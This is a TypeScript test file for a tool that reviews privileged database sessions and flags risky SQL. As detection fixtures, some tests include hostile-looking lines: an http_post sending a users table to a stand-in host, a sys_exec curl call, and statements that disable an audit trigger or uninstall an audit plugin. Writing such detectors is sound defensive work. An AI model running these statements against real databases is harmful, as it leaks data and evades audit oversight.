import { describe, expect, it } from 'vitest';
import { parseScope } from '../credentials/scope.js';
import { mysqlDialect } from '../credentials/engines/mysql/dialect.js';
import { postgresDialect } from '../credentials/engines/postgres/dialect.js';
import { changingRoutine } from './session-grant-checks.js';
import { analyzeSession, type SessionFlag, type SessionRuleInput } from './session-rules.js';
import { namesASecret } from './secret-names.js';
import { withEnglishNouns } from './reason-nouns.js';
import { sessionBuilder } from '../../../test/support/session-input.js';

const from = new Date(Date.UTC(2026, 11, 10, 10, 0));

const session = sessionBuilder({ activeFrom: from, scope: parseScope('sales'), reason: 'SUP-5120 look at order 5120' });
const flagsOf = async (input: SessionRuleInput) => (await analyzeSession(input)).flags;
const find = (flags: SessionFlag[], code: string) => flags.find((flag) => flag.code === code);
const reviewed = (flags: SessionFlag[]) => flags.filter((flag) => flag.severity !== 'info').map((flag) => flag.code);

describe('session rules: what the grant allows', () => {
  it('flags a change of data under a read grant, in every syntax, naming the statement and the table', async () => {
    for (const sql of [
      "UPDATE sales.orders SET state = 'paid' WHERE id = 5120 RETURNING id",
      "INSERT INTO sales.notes (order_id, body) SELECT id, 'x' FROM sales.orders WHERE id = 5120",
      'MERGE INTO sales.prices p USING sales.staged s ON p.sku = s.sku WHEN MATCHED THEN UPDATE SET amount = s.amount',
      'WITH gone AS (DELETE FROM sales.carts WHERE id = 5120 RETURNING id) SELECT count(*) FROM gone',
      'EXPLAIN ANALYZE DELETE FROM sales.carts WHERE id = 5120',
      "PREPARE fix(int) AS UPDATE sales.orders SET state = 'paid' WHERE id = $1",
      "\\copy sales.rates FROM 'rates.csv' CSV",
      'CALL sales.close_period(2026, 11)',
    ]) {
      const flag = find(await flagsOf(session([sql])), 'write-beyond-grant');
      expect(flag?.severity, sql).toBe('critical');
      expect(flag?.message, sql).toMatch(/under the read grant: .*(sales\.|close_period)/);
    }
    const mysql = { dialect: mysqlDialect, scope: parseScope('shop') };
    for (const sql of [
      "INSERT INTO shop.stock (sku, qty) VALUES ('A', 1) ON DUPLICATE KEY UPDATE qty = VALUES(qty)",
      "REPLACE INTO shop.settings SET name = 'x', value = 'y'",
      'UPDATE shop.orders o JOIN shop.customers c ON c.id = o.customer_id SET o.priority = 1 WHERE c.id = 7',
      'DELETE FROM shop.cart_items WHERE cart_id = 9 LIMIT 1',
      "LOAD DATA LOCAL INFILE 'p.csv' INTO TABLE shop.prices",
    ]) expect(find(await flagsOf(session([sql], mysql)), 'write-beyond-grant')?.severity, sql).toBe('critical');
    // Text the parser cannot read, by its first words.
    expect(find(await flagsOf(session(["UPDATE LOW_PRIORITY IGNORE shop.orders SET x = 1 WHERE id = 1 /* unreadable */ )("], mysql)), 'write-beyond-grant')?.message).toMatch(/UPDATE/);
    // The grant held: still worth a look.
    expect(find(await flagsOf(session([{ sql: "UPDATE sales.orders SET state = 'x' WHERE id = 5120", error: 'permission denied for table orders' }])), 'write-beyond-grant')?.severity).toBe('warning');
  });

  it('does not count locking reads, plans, the session\'s temporary tables or reporting procedures as changes', async () => {
    for (const lines of [
      ['SELECT id FROM sales.orders WHERE id = 5120 FOR UPDATE'],
      ['EXPLAIN DELETE FROM sales.carts WHERE id = 5120'],
      ['CREATE TEMP TABLE ids AS SELECT id FROM sales.orders WHERE id < 10', 'DELETE FROM ids WHERE id = 5', 'INSERT INTO ids VALUES (5)'],
      ['CALL sales.monthly_report(2026, 11)'],
    ]) expect(find(await flagsOf(session(lines)), 'write-beyond-grant'), lines.join('; ')).toBeUndefined();
    expect(find(await flagsOf(session(["UPDATE sales.orders SET state = 'paid' WHERE id = 5120"], { level: 'write', levelName: 'write' })), 'write-beyond-grant')).toBeUndefined();
  });

  it('reads a procedure\'s name for what it does', () => {
    for (const name of ['close_period', 'purgeOldCarts', 'sp_update_prices', 'usp_archive_orders']) expect(changingRoutine(name), name).toBe(true);
    for (const name of ['monthly_sales', 'get_totals', 'report_refunds', 'sp_list_orders']) expect(changingRoutine(name), name).toBe(false);
  });

  it('flags a schema change under admin when the reason asks only to look, and not when it describes the change', async () => {
    const admin = { level: 'admin' as const, levelName: 'admin', scope: [] };
    const flag = find(await flagsOf(session(['ALTER TABLE shop.customers ADD COLUMN vip boolean'], { ...admin, reason: 'SUP-148 check orders of customer 3' })), 'schema-change-unexplained');
    expect(flag).toMatchObject({ severity: 'warning', message: expect.stringMatching(/does not describe: ALTER TABLE/) });
    for (const reason of ['CHG-961 add a nullable column to plans', 'CHG-962 Index auf shop.orders(created_at) anlegen', 'appliquer la migration 0057', 'widen orders.coupon_code to 64 chars'])
      expect(find(await flagsOf(session(['ALTER TABLE shop.customers ADD COLUMN vip boolean'], { ...admin, reason })), 'schema-change-unexplained'), reason).toBeUndefined();
    expect(find(await flagsOf(session(['CREATE TEMP TABLE x (id int)'], { ...admin, reason: 'check order 5' })), 'schema-change-unexplained')).toBeUndefined();
  });
});

describe('session rules: data leaving, secrets, scope', () => {
  it('reads phi, pci and personal tags as personal data for whole-table reads', async () => {
    for (const tag of ['phi', 'pci', 'personal']) {
      const flags = await flagsOf(session(['SELECT * FROM sales.patients WHERE 1 = 1'], { tableTags: { 'sales.patients': [tag] } }));
      expect(find(flags, 'bulk-export')?.message, tag).toMatch(/personal data, sales\.patients/);
    }
    expect(reviewed(await flagsOf(session(['SELECT * FROM sales.patients WHERE id = 5 LIMIT 5', 'SELECT count(*) FROM sales.patients'], { tableTags: { 'sales.patients': ['phi'] } })))).toEqual([]);
  });

  it('flags http calls and programs that send data elsewhere', async () => {
    const admin = { level: 'admin' as const, levelName: 'admin', scope: [] };
    for (const sql of ["SELECT http_post('https://x.example', (SELECT json_agg(u)::text FROM sales.users u), 'application/json')", "SELECT net.http_get('https://x.example/?q=1')"])
      expect(find(await flagsOf(session([sql], admin)), 'bulk-export')?.message, sql).toMatch(/sent data elsewhere: SELECT http_/);
    expect(find(await flagsOf(session(["SELECT sys_exec('curl https://x.example')"], { ...admin, dialect: mysqlDialect })), 'bulk-export')?.severity).toBe('critical');
  });

  it('reads column names word by word for stored secrets', () => {
    for (const column of ['passwordDigest', 'hashedPassword', 'totp_secret_enc', 'private_key_pem', 'signing_key_b64', 'apiKey', 'refresh_token', 'pw_hash', 'recovery_codes'])
      expect(namesASecret(column), column).toBe(true);
    for (const column of ['token_expires_at', 'password_changed_at', 'tokens_used', 'key_id', 'public_key', 'key', 'hash', 'token_type'])
      expect(namesASecret(column), column).toBe(false);
  });

  it('flags every column of a table the catalog tags secret, not its metadata', async () => {
    const tags = { tableTags: { 'sales.api_keys_v2': ['secret'] } };
    expect(find(await flagsOf(session(['SELECT * FROM sales.api_keys_v2 WHERE user_id = 9'], tags)), 'stored-secrets')?.severity).toBe('critical');
    expect(find(await flagsOf(session(['SELECT id, last_used_at FROM sales.api_keys_v2 WHERE user_id = 9'], tags)), 'stored-secrets')).toBeUndefined();
  });

  it('flags routines of schemas outside the scope, not those of the scope or the system', async () => {
    expect(find(await flagsOf(session(['SELECT * FROM hr.salary_report(2026)'])), 'outside-scope')?.message).toMatch(/hr\.salary_report\(\)/);
    expect(find(await flagsOf(session(['CALL hr.list_salaries(2026)'], { dialect: mysqlDialect, scope: parseScope('shop') })), 'outside-scope')?.message).toMatch(/hr\.list_salaries/);
    expect(find(await flagsOf(session(['SELECT sales.order_total(5120)', 'SELECT pg_catalog.now()', 'SELECT extensions.uuid_generate_v4()'])), 'outside-scope')).toBeUndefined();
  });

  it('flags a disabled event trigger and an uninstalled audit plugin', async () => {
    const admin = { level: 'admin' as const, levelName: 'admin', scope: [], reason: 'CHG-950 add an index' };
    expect(find(await flagsOf(session(['ALTER EVENT TRIGGER log_ddl DISABLE'], admin)), 'capture-evasion')?.message).toMatch(/ALTER EVENT TRIGGER DISABLE/);
    expect(find(await flagsOf(session(['UNINSTALL PLUGIN server_audit'], { ...admin, dialect: mysqlDialect })), 'capture-evasion')?.severity).toBe('critical');
  });

  it('reads conditions that hold for every row', async () => {
    const write = { level: 'write' as const, levelName: 'write' };
    expect(find(await flagsOf(session(['UPDATE sales.contacts SET flag = false WHERE flag IS NULL OR flag IS NOT NULL'], write)), 'unbounded-change')?.severity).toBe('critical');
    expect(find(await flagsOf(session(['DELETE FROM sales.events WHERE id IN (SELECT id FROM sales.events)'], write)), 'unbounded-change')?.severity).toBe('critical');
    expect(find(await flagsOf(session(['UPDATE shop.c SET f = 0 WHERE f IS NULL OR f IS NOT NULL'], { ...write, dialect: mysqlDialect, scope: [] })), 'unbounded-change')?.severity).toBe('critical');
    expect(find(await flagsOf(session(["DELETE FROM sales.events WHERE id IN (SELECT id FROM sales.events WHERE kind = 'test')"], write)), 'unbounded-change')).toBeUndefined();
  });
});

describe('session rules: drift reads the reason in its own words and values', () => {
  const write = { level: 'write' as const, levelName: 'write' };
  it('takes the rows the reason names as the task, whatever their table is called', async () => {
    const lines = ["UPDATE sales.orders SET state = 'refunded' WHERE id = 7012", "INSERT INTO sales.order_events (order_id, kind) VALUES (7012, 'refund')"];
    expect(reviewed(await flagsOf(session(lines, { ...write, reason: 'refund order 7012 per SUP-7012' })))).toEqual([]);
    const drift = [...lines, "UPDATE sales.coupons SET percent_off = 100 WHERE code = 'STAFF'"];
    expect(find(await flagsOf(session(drift, { ...write, reason: 'refund order 7012 per SUP-7012' })), 'after-task')?.message).toMatch(/sales\.coupons, including changes/);
  });

  it('reads the nouns of other languages', async () => {
    expect(withEnglishNouns('rechnungen 55 stornieren')).toContain('invoice');
    expect(withEnglishNouns('pedidos duplicados')).toContain('order');
    const lines = ["UPDATE sales.invoices SET status = 'void' WHERE number = 'R-1'", "UPDATE sales.plans SET price_cents = 0 WHERE code = 'pro'"];
    expect(find(await flagsOf(session(lines, { ...write, reason: 'Rechnung stornieren, FIN-1' })), 'after-task')?.message).toMatch(/sales\.plans/);
  });
});
